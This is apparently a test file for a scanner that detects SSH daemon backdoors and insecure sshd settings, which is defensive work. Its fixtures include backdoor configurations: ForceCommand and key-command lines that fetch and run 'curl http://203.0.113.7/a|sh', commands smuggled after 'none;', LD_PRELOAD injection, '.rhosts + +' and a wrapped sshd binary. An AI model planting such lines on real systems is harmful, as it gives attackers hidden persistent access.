import { execFileSync } from 'node:child_process';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeRoot, scanRoot, scanWithout, shown } from '../../../test/throwaway-root.ts';
import { lacks } from '../../../test/need.ts';
import { DiskTree } from '../../linux/disk-tree.ts';
import { directiveOf, readSshConfig } from '../ssh-config.ts';
import { sshd } from './check.ts';

const told = async (text: string, more: Parameters<typeof scanRoot>[1] & object = {}) => {
  const report = await scanRoot([sshd], { '/etc/ssh/sshd_config': text, ...more });
  return report.findings.map(({ kind, level, evidence }) => `${kind} ${level} ${evidence[0]!.value}`);
};

describe('sshd', () => {
  it('finds keys, commands and variables that let others in', async () => {
    expect(await told('AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n')).toEqual(['intrusion high AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u']);
    expect(await told('AuthorizedKeysFile /usr/lib/.cache/keys\n')).toEqual(['intrusion high AuthorizedKeysFile /usr/lib/.cache/keys']);
    expect(await told('AuthorizedKeysFile /var/cache/k/keys\n')).toEqual(['intrusion high AuthorizedKeysFile /var/cache/k/keys']);
    expect(await told('AuthorizedKeysCommand /tmp/keys %u\nAuthorizedKeysCommandUser root\n')).toEqual(['intrusion high AuthorizedKeysCommand /tmp/keys %u']);
    expect(await told('AuthorizedKeysCommand /usr/local/bin/keys\n', { '/usr/local/bin/keys': { text: '#!/bin/sh\ncurl -s http://203.0.113.7/k | sh\n', mode: 0o755 } })).toEqual(['intrusion high AuthorizedKeysCommand /usr/local/bin/keys']);
    expect(await told('ForceCommand curl http://203.0.113.7/a|sh\n')).toEqual(['intrusion high ForceCommand curl http://203.0.113.7/a|sh']);
    expect(await told('SetEnv LD_PRELOAD=/lib/x.so\n')).toEqual(['intrusion high SetEnv LD_PRELOAD=/lib/x.so']);
    expect(await told('TrustedUserCAKeys /dev/shm/ca.pub\n')).toEqual(['intrusion high TrustedUserCAKeys /dev/shm/ca.pub']);
    expect(await told('Match User lin\n  TrustedUserCAKeys /etc/ssh/ca.pub\n')).toEqual(['notice low TrustedUserCAKeys /etc/ssh/ca.pub']);
    expect(await told('PermitRootLogin no\rPermitRootLogin yes\n')).toContain('intrusion high PermitRootLogin no\rPermitRootLogin yes');
  });

  it('goes by the first value, by Match and by Include', async () => {
    expect(await told('PermitRootLogin no\nPermitRootLogin yes\n')).toEqual([]);
    expect(await told('PermitRootLogin yes\n')).toEqual(['weakness medium PermitRootLogin yes']);
    expect(await told('PermitRootLogin yes\nPasswordAuthentication no\n')).toEqual(['weakness low PermitRootLogin yes']);
    expect(await told('PermitEmptyPasswords no\nMatch Address 192.0.2.0/24\n PermitEmptyPasswords yes\n')).toEqual(['weakness high PermitEmptyPasswords yes']);
    const include = { '/etc/ssh/sshd_config.d/10.conf': 'PermitEmptyPasswords yes\nMatch User lin\n', '/etc/ssh/sshd_config.d/20.conf': 'LogLevel QUIET\n', '/etc/ssh/sshd_config.d/off': 'StrictModes no\n' };
    expect((await told('Include /etc/ssh/sshd_config.d/*.conf\nPermitEmptyPasswords no\nLogLevel INFO\nStrictModes yes\n', include)).sort()).toEqual(['weakness high LogLevel QUIET', 'weakness high PermitEmptyPasswords yes']);
    expect(await told('Include sshd_config\n')).toEqual([]); // includes itself: cut off and counted
    expect(directiveOf('  Match="User a b" # no')).toMatchObject({ keyword: 'match', args: ['User a b'] });
  });

  it('is silent for the settings of administrators and clouds', async () => {
    expect(await told([
      'Port 2222', 'PermitRootLogin prohibit-password', 'PasswordAuthentication no', 'AuthorizedKeysFile .ssh/authorized_keys .ssh/authorized_keys2', 'Subsystem sftp /usr/lib/openssh/sftp-server', 'AcceptEnv LANG LC_*', 'X11Forwarding yes',
      'AuthorizedKeysCommand none', 'PidFile /run/sshd.pid', 'Match Group sftponly', ' ChrootDirectory %h', ' ForceCommand internal-sftp', ' AllowTcpForwarding no',
    ].join('\n'), { '/usr/lib/openssh/sftp-server': { text: 'x', package: 'openssh-sftp-server', mode: 0o755 }, '/etc/default/ssh': '# Options\nSSHD_OPTS=\n' })).toEqual([]);
    expect(await told('PermitRootLogin yes\nPermitEmptyPasswords yes\n', { '/etc/ssh/sshd_config': { text: 'PermitRootLogin yes\n', package: 'openssh-server', config: true } })).toEqual([]);
  });

  it('reads lines as the daemon does, however they are written', async () => {
    for (const line of ["PermitEmptyPasswords 'yes'", 'PermitEmptyPasswords y"e"s', 'PermitEmptyPasswords yes\0 no', '"PermitEmptyPasswords" = "yes"', 'permitEMPTYpasswords=YES', 'PermitEmptyPasswords yes# no', 'PermitEmptyPasswords "yes" # no']) {
      const said = (await told(`${line}\n`)).filter((one) => one.startsWith('weakness high'));
      expect({ line, said: said.length }).toEqual({ line, said: line.includes('yes# no') ? 0 : 1 });
    }
    expect(directiveOf(String.raw`AuthorizedKeysFile "/a b"/c '/d'\ e \"f # none`)).toMatchObject({ args: ['/a b/c', '/d e', '"f'] });
  });

  it('knows what counts before what: Match all before all else, further lines that add', async () => {
    expect(await told('PermitEmptyPasswords no\nMatch User git\n X11Forwarding no\nMatch all\n PermitEmptyPasswords yes\n')).toEqual(['weakness high PermitEmptyPasswords yes']);
    expect(await told('PermitEmptyPasswords yes\nMatch all\n PermitEmptyPasswords no\n')).toEqual([]);
    expect(await told('AcceptEnv LANG LC_*\nAcceptEnv LD_PRELOAD\n')).toEqual(['weakness high AcceptEnv LD_PRELOAD']);
    expect((await told('HostKey /etc/ssh/ssh_host_ed25519_key\nHostKey /tmp/.k\n')).map((one) => one.slice(0, 13))).toEqual(['weakness high']);
  });

  it.skipIf(lacks({ root: true, files: ['/usr/sbin/sshd', '/usr/bin/ssh-keygen', '/run/sshd'] }))('includes the files that sshd includes, by every kind of pattern', () => {
    const names = ['a', 'b', 'ab', 'a.conf', 'ac.conf', 'A.conf', '10.conf', '1x.conf', '.a.conf', '..conf', 'a*b', 'a?b', 'a[b]', '[', ']', '-', '!', '^', 'a b', 'é.conf', 'a-c', 'axb', String.raw`a\b`, '[ab', 'a]'];
    const patterns = ['*', '*.conf', '?.conf', '??.conf', '[ab]', '[a-b].conf', '[!a]', '[^a]', '[!a-z].conf', '[]a]', '[!]a]', '[a-]', '[[:digit:]]*', '[[:upper:]].conf', '.*', '.?.conf', '[.]a.conf', '?a.conf', 'a?b', 'a[*]b', 'a[?]b', 'a[[]b]', '[', '[ab', 'a[b', 'a[]', '[z-a]', '*a*', '*b*c*', 'a**b', '?*?', '[a', '[0-9][0-9].conf', 'absent*', 'a]'];
    const root = makeRoot(Object.fromEntries(names.map((name, i) => [`/etc/ssh/d/${name}`, `AcceptEnv N${i}\n`])));
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(root, 'key')]);
    const context = { tree: new DiskTree(root, undefined), count: () => undefined, blind: () => undefined };
    const different: unknown[] = [];
    for (const pattern of patterns) {
      writeFileSync(join(root, 'real'), `Include "${root}/etc/ssh/d/${pattern}"\n`);
      writeFileSync(join(root, 'seen'), `Include "/etc/ssh/d/${pattern}"\n`);
      const told = execFileSync('/usr/sbin/sshd', ['-T', '-f', join(root, 'real'), '-h', join(root, 'key')], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
      const included = [...told.matchAll(/^acceptenv N(\d+)$/gm)].map(([, i]) => names[Number(i)]);
      const read = readSshConfig(context, '/seen').map(({ args }) => names[Number(args[0]!.slice(1))]);
      if (read.length !== included.length || !included.every((name) => read.includes(name))) different.push({ pattern, read, included });
    }
    expect(different).toEqual([]);
  });

  it('is not led astray by what stands before a daemon: padding, comments, a long line', async () => {
    const line = 'ExecStart=/usr/sbin/sshd -D -f /var/tmp/.s/c\n';
    for (const padding of ['#'.repeat(200_000) + '\n', '#\n'.repeat(30_000), `Environment=X=${'x \\\n'.repeat(40_000)}y\n`]) {
      expect(shown(await scanRoot([sshd], { '/run/systemd/system/a.service': `[Service]\n${padding}${line}`, '/var/tmp/.s/c': 'Port 4422\n' }))).toContain('high /run/systemd/system/a.service');
    }
    const beyond = await scanRoot([sshd], { '/run/systemd/system/a.service': `[Service]\n${'#'.repeat(1 << 20)}\n${line}` });
    expect(beyond.blind.map(({ what }) => what)).toEqual(['/run/systemd/system/a.service']);
    expect(shown(await scanRoot([sshd], { '/etc/ssh/sshd_config': `${'Port 22\n'.repeat(20_001)}PermitEmptyPasswords yes\n` }))).toContain('high /etc/ssh/sshd_config');
    const many = await scanRoot([sshd], { '/etc/ssh/sshd_config': `${'Port 22\n'.repeat(50_001)}PermitEmptyPasswords yes\n` });
    expect(many.verdict).toBe('suspicious');
    expect(shown(await scanRoot([sshd], { '/etc/ssh/sshd_config': `${'#\n'.repeat(30_000)}PermitEmptyPasswords yes\n` }))).toEqual(['high /etc/ssh/sshd_config']);
  });

  it('finds what it runs or loads behind a harmless word', async () => {
    for (const command of ['none; curl http://203.0.113.7/a|sh', 'internal-sftp;curl http://203.0.113.7/a|sh', '"none; curl http://203.0.113.7/a|sh"']) expect(await told(`ForceCommand ${command}\n`), command).toEqual([`intrusion high ForceCommand ${command}`]);
    expect(await told('Match Group sftp\n ForceCommand internal-sftp -d /in -u 0007\nMatch User x\n ForceCommand none\n')).toEqual([]);
    expect(await told('SecurityKeyProvider /dev/shm/sk.so\n')).toEqual(['intrusion high SecurityKeyProvider /dev/shm/sk.so']);
    expect(await told('SshdSessionPath /tmp/session\n')).toEqual(['intrusion high SshdSessionPath /tmp/session']);
  });

  it('takes the options of a daemon apart as it does itself', async () => {
    const config = { '/var/tmp/.s/c': 'PermitEmptyPasswords yes\n' };
    for (const options of ['-Df /var/tmp/.s/c', '-D -E -t -f /var/tmp/.s/c', '-Dp4422 -f/var/tmp/.s/c', '-f /etc/ssh/sshd_config -f /var/tmp/.s/c', '-De -u T -f /var/tmp/.s/c']) {
      const report = await scanRoot([sshd], { '/etc/systemd/system/a.service': `[Service]\nExecStart=/usr/sbin/sshd ${options}\n`, ...config });
      expect(shown(report), options).toEqual(expect.arrayContaining(['high /etc/systemd/system/a.service', 'high /var/tmp/.s/c']));
    }
    expect(shown(await scanRoot([sshd], { '/etc/systemd/system/a.service': '[Service]\nExecStart=/usr/sbin/sshd -Do "PermitEmptyPasswords yes"\n' }))).toContain('high /etc/systemd/system/a.service');
    expect(shown(await scanRoot([sshd], { '/etc/systemd/system/a.service': '[Service]\nExecStartPre=/usr/sbin/sshd -tf /etc/ssh/other\n' }))).toEqual([]);
  });

  it('finds a replaced, wrapped or second daemon', async () => {
    const genuine = { text: 'ELF genuine', mode: 0o755, package: 'openssh-server' };
    expect(shown(await scanRoot([sshd], { '/usr/sbin/sshd': genuine }))).toEqual([]);
    const root = makeRoot({ '/usr/sbin/sshd': { ...genuine, text: 'ELF other %s:%s\n /usr/include/.x', shipped: 'ELF genuine' }, '/usr/bin/ssh': { text: '#!/bin/sh\nexec /usr/bin/.ssh "$@"\n', mode: 0o755 }, '/usr/sbin/sshd.original': 'ELF genuine' });
    expect(shown(await scanRoot([sshd], root))).toEqual(['critical /usr/bin/ssh', 'critical /usr/sbin/sshd', 'high /usr/sbin/sshd.original']);
    for (const path of ['usr/sbin/sshd', 'usr/bin/ssh', 'usr/sbin/sshd.original']) rmSync(join(root, path));
    expect(shown(await scanRoot([sshd], root))).toEqual([]);
    const units = await scanRoot([sshd], {
      '/usr/sbin/sshd': genuine,
      '/etc/systemd/system/a.service': '[Service]\nExecStart=/usr/sbin/sshd -D -p 4422 -f /var/tmp/.s/c\n', '/var/tmp/.s/c': 'PermitEmptyPasswords yes\n',
      '/etc/systemd/system/b.service': '[Service]\nExecStart=/usr/lib/net/sshd -D\n', '/usr/lib/net/sshd': { text: 'ELF', mode: 0o755 },
      '/etc/systemd/system/ssh.service.d/x.conf': '[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -oAuthorizedKeysFile=/dev/shm/k\n',
      '/etc/systemd/system/sftp.service': '[Service]\nExecStart=/usr/sbin/sshd -D -f /etc/ssh/sshd_sftp_config\n', '/etc/ssh/sshd_sftp_config': 'Port 2022\nPasswordAuthentication no\n',
    });
    expect(shown(units).sort()).toEqual(['high /etc/systemd/system/a.service', 'high /etc/systemd/system/ssh.service.d/x.conf', 'high /var/tmp/.s/c', 'low /etc/systemd/system/sftp.service', 'medium /etc/systemd/system/b.service']);
  });

  it('finds files that others may change or read, and hosts that are believed', async () => {
    const report = await scanRoot([sshd], {
      '/etc/ssh/sshd_config': { text: 'Port 22\n', mode: 0o666 }, '/etc/ssh/ssh_host_rsa_key': { text: 'k', mode: 0o644 }, '/etc/ssh/ssh_host_rsa_key.pub': 'k', '/home/lin/.rhosts': '+ +\n', '/etc/hosts.equiv': '192.0.2.4 lin\n',
    });
    expect(shown(report)).toEqual(['high /etc/ssh/ssh_host_rsa_key', 'high /etc/ssh/sshd_config', 'high /home/lin/.rhosts', 'medium /etc/hosts.equiv']);
  });

  it.skipIf(lacks({ root: true }))('says what it could not read', async () => {
    const report = await scanWithout([sshd], makeRoot({ '/etc/ssh/sshd_config': 'Port 22\n' }), '/etc/ssh/sshd_config');
    expect(report.blind.map(({ what }) => what)).toContain('/etc/ssh/sshd_config');
    expect(report.verdict).toBe('suspicious');
  });
});
